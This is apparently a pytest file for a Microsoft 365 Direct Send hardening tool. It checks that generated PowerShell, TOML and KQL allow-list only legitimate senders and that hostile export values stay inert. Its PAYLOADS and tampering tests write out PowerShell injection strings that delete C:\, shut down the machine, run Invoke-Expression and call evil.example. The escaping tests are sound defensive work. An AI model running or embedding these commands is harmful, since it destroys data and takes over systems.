"""The plan: PowerShell script, dsguard config, KQL - and that hostile values stay data."""

from __future__ import annotations

import copy
import csv
import re
import tomllib
from datetime import UTC, datetime
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from dsguard.config import Config, load_config
from dsguard.m365.inventory import InventoryBuilder, run_inventory
from dsguard.m365.plan import (
    CONFIG_NAME,
    KQL_NAME,
    SCRIPT_NAME,
    PlanError,
    build_plan,
    dsguard_config,
    hunting_kql,
    load_inventory,
    powershell_script,
    ps_quote,
    write_plan,
)
from dsguard.m365.records import Direction, TraceRecord

DATA = Path(__file__).resolve().parents[3] / "tests" / "data" / "m365"
with (DATA / "expected.toml").open("rb") as _fh:
    EXPECTED = tomllib.load(_fh)
CASES = [(fmt["id"], name) for fmt in EXPECTED["format"] for name in fmt["files"]]
GENERATED = "2026-03-09 08:00 UTC"

# -- a minimal PowerShell lexer: strings, comments, the rest is code -------------------------

SINGLE = "'\u2018\u2019\u201a\u201b"
DOUBLE = '"\u201c\u201d\u201e'


def ps_tokens(script: str) -> tuple[str, list[str], list[str]]:
    """(code with every string replaced by a placeholder, single-quoted literal values,
    comment texts), following PowerShell's rules: a single-quoted string ends at any of the
    four single-quote characters unless another one follows (then that one is literal);
    ``#`` starts a comment to the end of the line; ``<# ... #>`` is a block comment."""
    code: list[str] = []
    literals: list[str] = []
    comments: list[str] = []
    i, n = 0, len(script)
    while i < n:
        c = script[i]
        if c in SINGLE:
            j, value = i + 1, []
            while True:
                assert j < n, "unterminated single-quoted string"
                if script[j] in SINGLE:
                    if j + 1 < n and script[j + 1] in SINGLE:
                        value.append(script[j + 1])
                        j += 2
                        continue
                    break
                value.append(script[j])
                j += 1
            literals.append("".join(value))
            code.append("'S'")
            i = j + 1
        elif c in DOUBLE:
            j = i + 1
            while script[j] not in DOUBLE:
                j += 2 if script[j] == "`" else 1
            literals.append(script[i + 1:j])
            code.append('"D"')
            i = j + 1
        elif script.startswith("<#", i):
            end = script.index("#>", i)
            comments.append(script[i + 2:end])
            i = end + 2
        elif c == "#":
            end = script.find("\n", i)
            end = n if end == -1 else end
            comments.append(script[i + 1:end])
            i = end
        else:
            code.append(c)
            i += 1
    return "".join(code), literals, comments


# -- per-format plans ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def plans(config: Config) -> dict[str, tuple[dict[str, Any], str, str, str]]:
    out = {}
    for _, name in CASES:
        doc, _ = run_inventory(config, [str(DATA / name)])
        plan = build_plan(doc)
        out[name] = (doc, powershell_script(plan, generated=GENERATED),
                     dsguard_config(plan, generated=GENERATED), hunting_kql(plan, generated=GENERATED))
    return out


def connector_ips(script: str) -> list[str]:
    _, literals, _ = ps_tokens(script)
    found = []
    for line in script.splitlines():
        if "-SenderIPAddresses" in line:
            found += ps_tokens(line)[1]
    assert set(found) <= set(literals)
    return found


@pytest.mark.parametrize(("format_id", "name"), CASES)
def test_connectors_hold_exactly_the_legitimate_sources(
    plans: dict[str, Any], format_id: str, name: str
) -> None:
    fmt = next(f for f in EXPECTED["format"] if f["id"] == format_id)
    _, script, toml_text, _ = plans[name]
    assert sorted(connector_ips(script)) == sorted(fmt["connector_ips"])
    config = tomllib.loads(toml_text)
    ranges = [r.split("/")[0] for c in config.get("connectors", []) for r in c["sender_ip_ranges"]]
    assert sorted(ranges) == sorted(fmt["connector_ips"])


@pytest.mark.parametrize(("format_id", "name"), CASES)
def test_attackers_are_never_allow_listed(plans: dict[str, Any], format_id: str, name: str) -> None:
    fmt = next(f for f in EXPECTED["format"] if f["id"] == format_id)
    doc, script, toml_text, kql = plans[name]
    bad = [s["ips"][0] for s in doc["sources"] if s["class"] in ("suspicious", "malicious")]
    assert set(fmt.get("attack_ips", EXPECTED["attack_ips"])) <= set(bad)
    for ip in bad:
        assert ip not in script and ip not in toml_text and ip not in kql
    assert "139.28." not in script


@pytest.mark.parametrize(("format_id", "name"), CASES)
def test_sender_domains_are_the_accepted_domains_never_star(
    plans: dict[str, Any], format_id: str, name: str
) -> None:
    _, script, toml_text, _ = plans[name]
    lines = [line for line in script.splitlines()
             if "-SenderDomains" in line and not line.lstrip().startswith("#")]
    assert lines or format_id == "mail"
    for line in lines:
        assert ps_tokens(line)[1] == ["contoso.com"]
    assert not re.search(r"SenderDomains\s+['\"]?\*", script)
    _, literals, _ = ps_tokens(script)
    assert "*" not in literals
    for connector in tomllib.loads(toml_text).get("connectors", []):
        assert connector["sender_domains"] == ["contoso.com"]


def test_script_follows_microsofts_order(plans: dict[str, Any]) -> None:
    _, script, _, _ = plans["emailevents.csv"]
    assert script.startswith("#Requires -Version 7\n")
    steps = ["Connect-ExchangeOnline", "Get-AcceptedDomain", "New-InboundConnector",
             "Set-OrganizationConfig -RejectDirectSend $true",
             "Get-OrganizationConfig | Select-Object Identity, RejectDirectSend"]
    positions = [script.index(step) for step in steps]
    assert positions == sorted(positions)
    # EmailEvents cannot name the signature service: its IPs join the devices' connector.
    assert script.count("New-InboundConnector -Name") == 1
    assert script.count("-ConnectorType Partner") == 1
    assert script.count("-RestrictDomainsToIPAddresses $true") == 1
    assert "SRS" in script and "198.51.100.140" in script  # named in a comment, no connector
    code, _, comments = ps_tokens(script)
    assert "198.51.100.140" not in code
    assert any("Step 4" in c for c in comments)


def test_dsguard_config_is_valid_and_equivalent(plans: dict[str, Any], tmp_path: Path) -> None:
    _, _, toml_text, _ = plans["extended.csv"]
    path = tmp_path / CONFIG_NAME
    path.write_text(toml_text, encoding="utf-8")
    config = load_config(path)
    assert config.organization.accepted_domains == ("contoso.com",)
    assert config.organization.home_countries == ("US",)
    assert config.organization.reject_direct_send == "on"
    connectors = {c.name: c.sender_ip_ranges for c in config.connectors}
    assert connectors == {
        "dsguard - Direct Send devices and applications": ("198.51.100.20/32", "198.51.100.21/32"),
        "dsguard - CodeTwo (email signatures)": ("203.0.113.80/32", "203.0.113.81/32"),
    }


def test_kql_queries_use_the_accepted_domains(plans: dict[str, Any]) -> None:
    _, _, _, kql = plans["emailevents.csv"]
    inventory_q, spoof_q, verify_q = kql.split("\n\n// 1.")[1].split("\n\n// ")[:3]
    assert 'let AcceptedDomains = dynamic(["contoso.com"]);' in kql
    for part in ('EmailDirection == "Inbound"', "isempty(Connectors)", "by SenderIPv4",
                 "SenderMailFromDomain in~ (AcceptedDomains)"):
        assert part in inventory_q
    for part in ("isempty(Connectors)", "SenderMailFromAddress =~ RecipientEmailAddress",
                 'tostring(Auth.SPF) in ("fail", "softfail")', 'tostring(Auth.DMARC) == "fail"'):
        assert part in spoof_q
    assert '"198.51.100.20"' in verify_q and "139.28." not in verify_q


# -- hostile values ---------------------------------------------------------------------------

PAYLOADS = {
    "helo": "RNP1'); Remove-Item -Recurse -Force C:\\ ; ('",
    "subject": "Scan \u2019; Stop-Computer -Force; \u2018 $(Invoke-Expression calc) `\n"
               "Invoke-WebRequest evil.example #> <# '@\r\n\u2028Start-Process x",
    "sender": "o'brien$(calc)@contoso.com",
}


def _extended(path: Path, helo: str, subject: str, sender: str, make_exports: ModuleType) -> None:
    """Five days of a printer's mail as an Extended report (RECEIVE + AGENTINFO rows)."""
    columns = make_exports.EXTENDED_COLUMNS
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(columns)
        for day in range(2, 7):
            key = f"msg-{day}"
            receive = {"date_time_utc": f"2026-03-0{day}T09:00:00.000Z", "event_id": "RECEIVE",
                       "client_ip": "198.51.100.20", "client_hostname": helo,
                       "connector_id": "S1\\Default S1", "network_message_id": key,
                       "recipient_address": "joe@contoso.com", "message_subject": subject,
                       "sender_address": sender, "return_path": sender,
                       "directionality": "Incoming"}
            agent = {"date_time_utc": f"2026-03-0{day}T09:00:01.000Z", "event_id": "AGENTINFO",
                     "network_message_id": key,
                     "custom_data": "S:SFA=SUM|SFV=NSPM|CTRY=US;S:SPF=pass;S:DKIM=none;S:DMARC=pass"}
            writer.writerow([receive.get(c, "") for c in columns])
            writer.writerow([agent.get(c, "") for c in columns])


def test_hostile_helo_subject_and_sender_cannot_break_out(
    tmp_path: Path, config: Config, make_exports: ModuleType
) -> None:
    benign = tmp_path / "benign.csv"
    hostile = tmp_path / "hostile.csv"
    _extended(benign, "RNP1", "Scan", "printer@contoso.com", make_exports)
    _extended(hostile, PAYLOADS["helo"], PAYLOADS["subject"], PAYLOADS["sender"], make_exports)
    results = []
    for path in (benign, hostile):
        doc, reader = run_inventory(config, [str(path)])
        assert not reader.errors
        assert [s["class"] for s in doc["sources"]] == ["device_or_app"]
        plan = build_plan(doc)
        results.append((powershell_script(plan, generated=GENERATED),
                        dsguard_config(plan, generated=GENERATED),
                        hunting_kql(plan, generated=GENERATED)))
    (ps_benign, toml_benign, _), (ps_hostile, toml_hostile, kql_hostile) = results
    code_b, literals_b, _ = ps_tokens(ps_benign)
    code_h, literals_h, comments_h = ps_tokens(ps_hostile)
    # Same code, same literals: the hostile values changed nothing but comment text.
    assert code_h == code_b
    assert literals_h == literals_b
    assert "Remove-Item" in " ".join(comments_h)  # it is there, as a comment
    for line in ps_hostile.splitlines():
        if "Remove-Item" in line or "Stop-Computer" in line or "Start-Process" in line:
            assert line.lstrip().startswith("#"), line
    # TOML: still valid, same settings; KQL never carries export text.
    assert tomllib.loads(toml_hostile) == tomllib.loads(toml_benign)
    assert "calc" not in kql_hostile and "Remove-Item" not in kql_hostile


@pytest.mark.parametrize(
    "value",
    ["plain", "it's", "\u2018curly\u2019 \u201a\u201b", "''", "'\u2019'", "$(calc) `n @'",
     "line\nbreak\r\u2028\u0085"],
)
def test_ps_quote_round_trips(value: str) -> None:
    code, literals, comments = ps_tokens(f"Write-Output {ps_quote(value)}\n")
    assert code == "Write-Output 'S'\n" and not comments
    assert literals == ["".join(c if c.isprintable() else "?" for c in value)]


def _tampered(doc: dict[str, Any]) -> dict[str, Any]:
    return copy.deepcopy(doc)


def test_a_service_name_from_the_inventory_is_quoted_and_cut(
    plans: dict[str, Any],
) -> None:
    doc = _tampered(plans["extended.csv"][0])
    for s in doc["sources"]:
        if s["service"] and s["service"].startswith("CodeTwo"):
            s["service"] = "Evil' ; Invoke-Expression 'calc' #\nNew-Line"
    script = powershell_script(build_plan(doc), generated=GENERATED)
    code, literals, _ = ps_tokens(script)
    assert "Invoke-Expression" not in code
    assert "dsguard - Evil Invoke-Expression calc New-Line" in literals


def test_tampered_classes_and_domains_are_refused(plans: dict[str, Any]) -> None:
    doc = _tampered(plans["emailevents.csv"][0])
    for s in doc["sources"]:
        if s["class"] == "malicious":
            # An edited inventory that gives a malicious source a fix still gets no connector.
            s["fix"] = {"kind": "ip_connector", "summary": "x"}
    plan = build_plan(doc)
    assert not any(ip.startswith("139.28.") for c in plan.connectors for ip in c.ips)

    doc["organization"]["accepted_domains"] = ["*"]
    with pytest.raises(PlanError, match="not a domain name"):
        build_plan(doc)
    doc["organization"]["accepted_domains"] = []
    with pytest.raises(PlanError, match="no accepted domains"):
        build_plan(doc)


def test_an_ip_shared_with_an_attacker_is_dropped(config: Config) -> None:
    builder = InventoryBuilder(config)
    for day in range(2, 7):
        when = datetime(2026, 3, day, 9, tzinfo=UTC)
        builder.add(TraceRecord(when, "198.51.100.20", "RNP1", "printer@contoso.com", None,
                                ("joe@contoso.com",), "Scan", Direction.INBOUND, "",
                                spf="pass", dmarc="pass"))
        builder.add(TraceRecord(when, "198.51.100.20", "[127.0.0.1]", "joe@contoso.com", None,
                                ("joe@contoso.com",), "Caller Left VM Message",
                                Direction.INBOUND, "", spf="fail", dmarc="fail"))
    plan = build_plan(builder.document())
    assert plan.connectors == []
    assert any("198.51.100.20 also sent suspicious or malicious mail" in w for w in plan.warnings)


def test_shared_certificate_vendor_gets_a_certificate_connector(config: Config, tmp_path: Path) -> None:
    builder = InventoryBuilder(config)
    for n in range(8):
        builder.add(TraceRecord(datetime(2026, 3, 2 + n % 5, 9, tzinfo=UTC), f"203.0.113.{90 + n}",
                                f"o{n}.ptr1234.sendgrid.net", "billing@contoso.com", None,
                                ("joe@contoso.com",), "Your invoice", Direction.INBOUND, "",
                                spf="pass", dkim="pass", dmarc="pass"))
    plan = build_plan(builder.document())
    assert [(c.kind, c.certificate) for c in plan.connectors] == [
        ("certificate_connector", "*.smtp.sendgrid.net")]
    script = powershell_script(plan, generated=GENERATED)
    for part in ("-TlsSenderCertificateName '*.smtp.sendgrid.net'",
                 "-RestrictDomainsToCertificate $true", "-RequireTls $true", "DMARC p=reject"):
        assert part in script
    (tmp_path / "c.toml").write_text(dsguard_config(plan), encoding="utf-8")
    loaded = load_config(tmp_path / "c.toml")
    assert loaded.connectors[0].tls_certificate_name == "*.smtp.sendgrid.net"


def test_vendor_without_ip_or_certificate_gets_the_transport_rule(config: Config) -> None:
    builder = InventoryBuilder(config)
    for n in range(6):
        builder.add(TraceRecord(datetime(2026, 3, 2 + n % 5, 9, tzinfo=UTC), f"198.51.100.{60 + n}",
                                f"mail{n}.us1.mcsv.net", "news@contoso.com", None,
                                ("joe@contoso.com",), "Spring offers", Direction.INBOUND, "",
                                spf="pass", dkim="pass", dmarc="pass"))
    plan = build_plan(builder.document())
    assert plan.connectors == [] and [r.service for r in plan.transport_rules] == [
        "Mailchimp / Mandrill"]
    script = powershell_script(plan, generated=GENERATED)
    for part in ("New-TransportRule", "-FromScope NotInOrganization",
                 "-SenderDomainIs 'contoso.com'", "-ExceptIfHeaderContainsMessageHeader",
                 "-Quarantine $true", "$VendorsWithoutConnector = @('Mailchimp / Mandrill')"):
        assert part in script
    # RejectDirectSend would reject the vendor: the self-hosted config stays in audit mode.
    assert 'reject_direct_send = "audit"' in dsguard_config(plan)


def test_plan_files_are_written_once_unless_forced(plans: dict[str, Any], tmp_path: Path) -> None:
    plan = build_plan(plans["extended.csv"][0])
    written = write_plan(plan, tmp_path)
    assert sorted(p.name for p in written) == sorted([SCRIPT_NAME, CONFIG_NAME, KQL_NAME])
    with pytest.raises(PlanError, match="exist already"):
        write_plan(plan, tmp_path)
    assert len(write_plan(plan, tmp_path, force=True)) == 3


def test_load_inventory_refuses_other_json(tmp_path: Path) -> None:
    path = tmp_path / "graph.json"
    path.write_bytes((DATA / "graph-messagetrace.json").read_bytes())
    with pytest.raises(PlanError, match="not an inventory"):
        load_inventory(path)
    (tmp_path / "bad.json").write_text("{not json", encoding="utf-8")
    with pytest.raises(PlanError, match="not JSON"):
        load_inventory(tmp_path / "bad.json")
